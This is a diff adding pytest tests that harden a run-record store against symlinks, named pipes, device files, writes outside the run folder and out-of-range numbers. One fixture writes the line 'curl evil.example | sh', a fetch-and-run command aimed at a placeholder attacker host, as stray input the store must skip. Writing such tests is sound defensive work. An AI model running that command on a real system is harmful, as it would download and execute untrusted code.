@@ -293,6 +293,79 @@ def test_whatever_stands_in_a_line_the_others_are_read(tmp_path, make_record, ma
     assert opened.left_out == (f"{path}:2",)
 
 
+def _run_of_others(tmp_path, make_record, manifest, *, stray=b""):
+    """A run with one record, as somebody else might hand it on, and a file of mine beside it."""
+    with open_run("r", root=tmp_path, create=True, manifest=manifest) as run:
+        run.append(make_record("a.py"), {"candidate.py": "theirs"})
+    with (tmp_path / "r" / "records.jsonl").open("ab") as file:
+        file.write(stray)
+    mine = tmp_path / "mine"
+    mine.write_text("mine\n")
+    return tmp_path / "r", mine
+
+
+def test_no_link_has_a_line_that_is_no_record_written_into_a_file_of_mine(tmp_path, make_record, manifest):
+    folder, mine = _run_of_others(tmp_path, make_record, manifest, stray=b"curl evil.example | sh\n")
+    (folder / "records.jsonl.set-aside").symlink_to(mine)
+    assert paths_of(open_run("r", root=tmp_path)) == ["a.py"]
+    assert mine.read_text() == "mine\n"
+
+
+def test_nor_does_a_pipe_in_its_place_keep_anybody_waiting(tmp_path, make_record, manifest):
+    folder, _ = _run_of_others(tmp_path, make_record, manifest, stray=b"no record\n")
+    os.mkfifo(folder / "records.jsonl.set-aside")
+    assert paths_of(open_run("r", root=tmp_path)) == ["a.py"]
+
+
+@pytest.mark.parametrize("name", ["records.jsonl", "manifest.json"])
+@pytest.mark.parametrize("kind", ["link", "pipe", "device"])
+def test_records_and_manifest_are_files_of_the_run_itself(tmp_path, make_record, manifest, name, kind):
+    folder, mine = _run_of_others(tmp_path, make_record, manifest)
+    (folder / name).rename(folder / "elsewhere")
+    if kind == "pipe":
+        os.mkfifo(folder / name)
+    else:
+        (folder / name).symlink_to("/dev/zero" if kind == "device" else folder / "elsewhere")
+    with pytest.raises(StoreError, match=f"{name} is a link, a pipe or a device"):
+        open_run("r", root=tmp_path).index()
+    if name == "records.jsonl":
+        with pytest.raises(StoreError), open_run("r", root=tmp_path, create=True, manifest=manifest):
+            pass
+    assert mine.read_text() == "mine\n"
+
+
+def test_resuming_a_run_of_others_writes_and_removes_nothing_outside_of_it(tmp_path, make_record, manifest):
+    folder, mine = _run_of_others(tmp_path, make_record, manifest)
+    (folder / ".records.jsonl.writer").symlink_to(mine)
+    (tmp_path / "photos").mkdir()
+    (tmp_path / "photos" / "one.jpg").write_text("kept")
+    (attached,) = (folder / "artifacts").iterdir()
+    attached.rename(tmp_path / "attached")
+    attached.symlink_to(tmp_path / "photos")
+    with open_run("r", root=tmp_path, create=True, manifest=manifest) as run:
+        with pytest.raises(StoreError, match="is a link"):
+            run.append(make_record("a.py"), {"candidate.py": "anew"})
+        run.append(make_record("b.py"))
+    assert mine.read_text() == "mine\n"
+    assert [path.name for path in (tmp_path / "photos").iterdir()] == ["one.jpg"]
+    assert paths_of(open_run("r", root=tmp_path)) == ["a.py", "b.py"]
+
+
+@pytest.mark.parametrize("name", ["sample", "turn", "prompt_tokens", "completion_tokens"])
+@pytest.mark.parametrize("number", [2**63, 10**30, -(10**30)])
+def test_a_number_that_no_column_holds_leaves_one_line_out(tmp_path, make_record, manifest, name, number):
+    with open_run("r", root=tmp_path, create=True, manifest=manifest) as run:
+        run.append(make_record("a.py"))
+        run.append(make_record("b.py"))
+    path = tmp_path / "r" / "records.jsonl"
+    first, second = map(json.loads, path.read_bytes().splitlines())
+    first["submission"][name] = number
+    path.write_text(f"{json.dumps(first)}\n{json.dumps(second)}\n")
+    opened = open_run("r", root=tmp_path)
+    assert paths_of(opened) == ["b.py"]
+    assert opened.left_out == (f"{path}:1",)
+
+
 def test_a_record_with_an_unknown_key_is_refused(tmp_path, make_record, manifest):
     with open_run("r", root=tmp_path, create=True, manifest=manifest) as run:
         run.append(make_record("a.py"))
